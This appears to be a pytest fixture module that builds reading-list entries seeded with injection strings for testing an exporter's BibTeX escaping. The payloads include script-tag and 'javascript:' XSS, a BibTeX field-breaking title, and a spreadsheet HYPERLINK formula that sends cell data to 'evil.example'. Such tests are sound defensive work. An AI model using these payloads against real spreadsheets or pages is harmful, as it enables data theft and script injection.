"""Entries with a mix of states and hostile text, shared by the export tests.

Imported by name (pytest puts this folder on sys.path: tests/ has no __init__).
"""

from __future__ import annotations

import re
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest

from reader.model import Entry, HistoryEntry, Paper, ReadingState, Status

NOW = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)  # the same day in every time zone

HOSTILE_TITLE = ('Nice}, note = {INJECTED "quoted" & <script>alert(1)</script> '
                 '100% {unbalanced [CLS] $x^2$ ~ #1 under_score \\ back 🚀 Ünïcode')
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE_NOTE = ("First line with [link](javascript:alert(1)) and <b>bold</b>\n"
                "# not a heading\n"
                "* not a heading in org\n"
                "#+end_example\n"
                "=1+1 & } { %\n"
                "emoji 🎉 and \"quotes\" 'single'")


def entry(pid: str, title: str, *, status: Status = Status.NEW, rating: int | None = None,
          queue_pos: float | None = None, added_at: str = "2026-11-01T10:00:00+00:00",
          authors: list[str] | None = None, year: int | None = 2024,
          arxiv_id: str | None = None, urls: list[str] | None = None,
          doi: str | None = None, venue: str | None = None, tags: list[str] | None = None,
          note: str = "", abstract: str = "An abstract.") -> Entry:
    paper = Paper(id=pid, title=title, abstract=abstract, authors=authors or [],
                  year=year, published=f"{year}-03-04" if year else None, arxiv_id=arxiv_id,
                  doi=doi, urls=urls or [], venue=venue, source="test:fixture",
                  added_at=added_at)
    history = ([HistoryEntry(at="2026-11-02T09:00:00+00:00", status=status,
                             previous=Status.NEW)] if status is not Status.NEW else [])
    state = ReadingState(paper_id=pid, status=status, rating=rating, tags=tags or [],
                         note=note, history=history,
                         updated_at="2026-11-02T09:00:00+00:00" if history else None,
                         queue_pos=queue_pos)
    return Entry(paper, state)


def mixed_entries() -> list[Entry]:
    """Eight papers in library order; the to-read export order is q1, q2, r5old, r5new, r2."""
    return [
        entry("arxiv:2401.00005", "Rated two, unqueued", status=Status.TO_READ, rating=2,
              arxiv_id="2401.00005", authors=["Ann Lee"]),
        entry("arxiv:2401.00001", HOSTILE_TITLE, status=Status.TO_READ, rating=3, queue_pos=2.0,
              arxiv_id="2401.00001", authors=["Alice Smith", "Bob Jones", "Carol King"],
              tags=["ml", "to share", "<b>"], note=HOSTILE_NOTE),
        entry("doi:10.1000/xyz", FORMULA_TITLE, status=Status.TO_READ, rating=5,
              added_at="2026-11-05T10:00:00+00:00", doi="10.1000/xyz",
              urls=["https://example.org/paper (v2)"], authors=["Jean-Pierre van der Berg"],
              venue="Proceedings of the Conference on Things", note="-2+3\n@cmd"),
        entry("title:abc123", "Rated five, older", status=Status.TO_READ, rating=5,
              added_at="2026-10-01T10:00:00+00:00", urls=["javascript:alert(1)"],
              authors=["Dana Wu", "Eve Stone"], year=None),
        entry("arxiv:2401.00002", "Queue head", status=Status.TO_READ, queue_pos=1.0,
              arxiv_id="2401.00002", authors=["Solo"]),
        entry("arxiv:2401.00003", "A read paper about BERT", status=Status.READ, rating=4,
              arxiv_id="2401.00003", tags=["nlp"], note="Loved it."),
        entry("arxiv:2401.00004", "A new paper", arxiv_id="2401.00004"),
        entry("arxiv:2401.00006", "Skipped paper", status=Status.SKIPPED,
              arxiv_id="2401.00006"),
        entry("arxiv:2401.00007", "Reading now", status=Status.READING,
              arxiv_id="2401.00007"),
    ]


TO_READ_ORDER = ["arxiv:2401.00002", "arxiv:2401.00001", "title:abc123", "doi:10.1000/xyz",
                 "arxiv:2401.00005"]


# The inverse of the escape map, written independently of the exporter.
_UNESCAPE = {
    r"\textbackslash{}": "\\", r"\textbraceleft{}": "{", r"\textbraceright{}": "}",
    r"\textless{}": "<", r"\textgreater{}": ">", r"\^{}": "^", r"\~{}": "~",
    r"\%": "%", r"\&": "&", r"\#": "#", r"\_": "_", r"\$": "$",
}
_TOKEN = re.compile("|".join(re.escape(k) for k in _UNESCAPE) + r"|[{}]|[^\\{}]+|\\")


def latex_to_text(value: str) -> str:
    out = []
    for tok in _TOKEN.findall(value):
        if tok in _UNESCAPE:
            out.append(_UNESCAPE[tok])
        elif tok in "{}":
            continue  # case protection added by the exporter
        else:
            out.append(tok)
    return "".join(out)


# --- the real bibtex, with a tiny style that prints key, title and annote -----------------

BST = """
ENTRY { title annote } {} {}
FUNCTION {misc} {}
FUNCTION {article} {}
FUNCTION {inproceedings} {}
FUNCTION {default.type} {}
FUNCTION {dump}
{ "<<" cite$ * "|" * title * "|" * annote empty$ { "" } { annote } if$ * ">>" *
  write$ newline$ }
READ
ITERATE {dump}
"""

needs_bibtex = pytest.mark.skipif(shutil.which("bibtex") is None,
                                  reason="bibtex not installed (apt-get install texlive-binaries)")


def run_bibtex(folder: Path, bib: str) -> list[tuple[str, str, str]]:
    """Run real BibTeX over `bib`; (key, raw title, raw annote) per entry, in order.
    Fails on any warning or error BibTeX reports."""
    (folder / "export.bib").write_text(bib, encoding="utf-8")
    (folder / "dump.bst").write_text(BST, encoding="ascii")
    (folder / "t.aux").write_text("\\citation{*}\n\\bibdata{export}\n\\bibstyle{dump}\n",
                                  encoding="ascii")
    env = {"PATH": "/usr/bin:/bin", "BSTINPUTS": ".", "BIBINPUTS": ".", "HOME": str(folder)}
    run = subprocess.run(["bibtex", "t"], cwd=folder, env=env, capture_output=True,
                         text=True, timeout=60, check=False)
    log = run.stdout + (folder / "t.blg").read_text(encoding="utf-8", errors="replace")
    assert run.returncode == 0, log
    assert "Warning" not in log and "error" not in log.lower(), log
    bbl = (folder / "t.bbl").read_text(encoding="utf-8")
    # bibtex wraps long lines at a space and indents the continuation by two spaces
    records = re.findall(r"<<(.*?)>>", bbl.replace("\n  ", " "), flags=re.S)
    out = []
    for record in records:
        key, rest = record.split("|", 1)
        title, annote = rest.rsplit("|", 1)
        out.append((key, title, annote))
    return out
